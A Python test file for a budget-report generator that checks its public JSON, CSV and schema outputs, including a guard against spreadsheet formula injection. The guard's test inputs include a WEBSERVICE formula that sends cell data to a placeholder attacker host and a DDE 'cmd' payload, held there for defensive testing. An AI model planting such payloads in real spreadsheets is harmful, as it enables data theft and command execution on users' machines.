"""The public data for machines: exact, described, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from types import SimpleNamespace

import jsonschema
import pytest

from perfgen import cli
from perfgen.build import job
from perfgen.project.layout import DataFile
from perfgen.prove.proof import ProofError
from perfgen.render import data_csv, data_json, data_schema
from perfgen.report import open_data, site
from perfgen.report.report import Edition
from tests.conftest import REPOSITORY
from tests.helpers import tiny
from tests.helpers.found import errors
from tests.helpers.projects import snapshot


@pytest.fixture(scope="module")
def report():
    result, editions = job.reports(
        snapshot(REPOSITORY), DataFile.at("data/2025/示例市市场监督管理局.yaml"), site.load_site(snapshot(REPOSITORY))
    )
    assert not errors(result.findings)
    return editions[Edition.PUBLIC]


def test_json_is_exact_and_keeps_its_schema(report):
    content = data_json.render(report)
    data = json.loads(content)
    assert data["项目支出"][0]["本年度预算"] == "3640.95"
    assert data["支出构成"]["特定目标类项目支出"]["占比"] == "24.9"
    assert data["前年"] == "2023"
    assert "填报人" not in data
    schema = json.loads(data_schema.render(report))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(data, schema)
    assert "填报人" not in schema["properties"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**data, "填报人": "x"}, schema)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**data, "年度": 2025}, schema)


def test_csv_opens_in_a_spreadsheet(report):
    content = data_csv.render(report)
    assert content.startswith(b"\xef\xbb\xbf") and b"\r\n" in content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["年度", "单位", "位置", "名称", "内容"]
    assert ["2025", "示例市市场监督管理局", "项目支出/1/本年度预算", "项目本年度预算", "3640.95"] in rows
    targets = [row[4] for row in rows if row[3] == "预期当年实现值"]
    assert any(target.startswith("=") for target in targets), "a target is a value and stays as it is"
    prose = [row for row in rows[1:] if row[3] not in ("预期当年实现值", "指标值", "上年指标值", "前年指标值")]
    assert not [row for row in prose if row[4].startswith(("=", "+", "-", "@"))]


def test_names_that_look_like_formulas_are_guarded(tiny_project):
    text = tiny.UNIT.format(name="东园").replace("苹果", "'=HYPERLINK(1)'")
    tiny.write_unit(tiny_project, "东园", text)
    report = job.reports(
        snapshot(tiny_project), DataFile.at("data/2025/东园.yaml"), site.load_site(snapshot(tiny_project))
    )[1][Edition.PUBLIC]
    content = data_csv.render(report)
    assert "'=HYPERLINK(1)" in content.decode()
    assert data_csv.prove(content, report) == 7


@pytest.mark.parametrize("module", [data_json, data_csv])
def test_a_changed_value_fails_the_proof(report, module):
    content = module.render(report)
    spoilt = content.replace(b"3640.95", b"3640.59", 1)
    assert spoilt != content
    with pytest.raises(ProofError):
        module.prove(spoilt, report)


def _cell_of(monkeypatch, text: str, *, is_value: bool = True) -> str:
    """What stands in the CSV for a value."""
    path = ("乙", 0)
    monkeypatch.setattr(open_data, "printed", lambda _: {path: text})
    monkeypatch.setattr(open_data, "is_value", lambda *_: is_value)
    monkeypatch.setattr(open_data, "title", lambda *_: "题")
    report = SimpleNamespace(year="2025", unit="甲", subjects={})
    content = data_csv.render(report)
    assert data_csv.prove(content, report) == 1
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1][4]


@pytest.mark.parametrize(
    "text",
    ["-3.5", "+3", "-1,260.5", "=0起", "=100%", "＝100%", "≥80%", "=-5", "=5万元", "-5‰", "-2次/月", "= 100 %", "3-5",
     "1/2", "规范"],
)  # fmt: skip
def test_one_number_or_one_target_stays_bare(monkeypatch, text):
    assert _cell_of(monkeypatch, text) == text


@pytest.mark.parametrize(
    "text",
    [
        '=WEBSERVICE("http://evil.example/?"&E6)', "=1+1", "-2+3", "=1-2", "-3~5", "=1*1", "=1&1", "=A1", "=5km", "=5k",
        "=1(个)", "=1（个）", "=5“个”", "=5'个'", "+cmd|' /C calc'!A0", "+cmd|=1", "@SUM=1", "@1", "-", "--", "+个",
        "＝HYPERLINK(1)", "＋1＋1", "－1－1", "＠SUM(1)", "﹦A1", " =1+1", "\u3000=A1", "\n=A1", "\r\n+A1", "\t=1",
        "\u200b=A1", "=95.5%(0.955)", "=100%（1）", "-1(x)",
        "\ufeff=A1", "=1\n2", "=1 2", "\xa0-A1", "=5!个", "=5|个", "=5^个", "=ｋ１", "=5ｋｍ",
    ],
)  # fmt: skip
def test_everything_else_that_a_spreadsheet_may_run_is_guarded(monkeypatch, text):
    assert _cell_of(monkeypatch, text) == f"'{text}"


@pytest.mark.parametrize("text", ["=0起", "-3.5", "+1", "＠甲"])
def test_a_name_or_prose_is_guarded_even_where_it_looks_like_a_number(monkeypatch, text):
    assert _cell_of(monkeypatch, text, is_value=False) == f"'{text}"


SECRET_ROWS = [
    "- {内部价: 1}\n  - {名称: 梨, 斤数: 2}",
    "- {名称: 梨, 斤数: 2}\n  - {内部价: 1}",
    "- {内部价: 1}\n  - {内部价: 2}\n  - {名称: 梨, 斤数: 2, 内部价: 3}",
    "- {}\n  - {名称: 梨, 斤数: 2}",
    "- {内部价: 1}",
    "- {名称: 梨, 斤数: 2}\n  - {内部价: 1}\n  - {名称: 苹果}",
]


@pytest.mark.parametrize("rows", SECRET_ROWS)
def test_a_row_with_nothing_public_breaks_no_output_and_tells_nothing(tiny_project, rows):
    schema = json.loads((tiny_project / "schema/fruit.schema.json").read_text("utf-8"))
    schema["properties"]["水果"]["items"]["properties"]["内部价"] = {"type": "number"}
    (tiny_project / "schema/fruit.schema.json").write_text(json.dumps(schema, ensure_ascii=False), "utf-8")
    (tiny_project / "schema/fruit.rules.yaml").write_text(
        "计算:\n  合计: 水果 | 求和('斤数')\n  水果.份: 2 - 1\n  水果.双: 求和(斤数, 斤数)\n", "utf-8"
    )
    tiny.write_unit(tiny_project, "东园", tiny.UNIT.format(name="东园").partition("水果:")[0] + f"水果:\n  {rows}\n")
    wanted = frozenset({("data_json", "public"), ("data_csv", "public"), ("data_schema", "public"), ("docx", "public")})
    project = snapshot(tiny_project)
    result = job.build_file(project, DataFile.at("data/2025/东园.yaml"), site.load_site(project), wanted)
    assert not errors(result.findings)
    data = json.loads(next(made.content for made in result.made if made.path.endswith("data.json")))
    shown = rows.count("名称")
    assert len(data.get("水果", [])) == shown
    assert all(row["份"] == "1" and row["名称"] for row in data.get("水果", []))
    assert data.get("合计") == ("2" if "梨" in rows else None)


@pytest.mark.parametrize(
    ("typed", "changed"),
    [
        ("果园: 东园", "果园: ''"),
        ("{名称: 苹果, 斤数: 3.5}", "{名称: '', 斤数: 3.5}"),
        ("水果:\n", "items: ''\n水果:\n"),
    ],
)
def test_an_empty_text_is_no_fault_of_the_program(tiny_project, typed, changed):
    """It is printed nowhere, and stands in data.json as it was typed."""
    tiny.write_unit(tiny_project, "东园", tiny.UNIT.format(name="东园").replace(typed, changed))
    assert cli.main(["-C", str(tiny_project), "build", "data/2025/东园.yaml"]) == 0
    data = (tiny_project / "build/public/2025/东园/data.json").read_text("utf-8")
    assert '""' in data
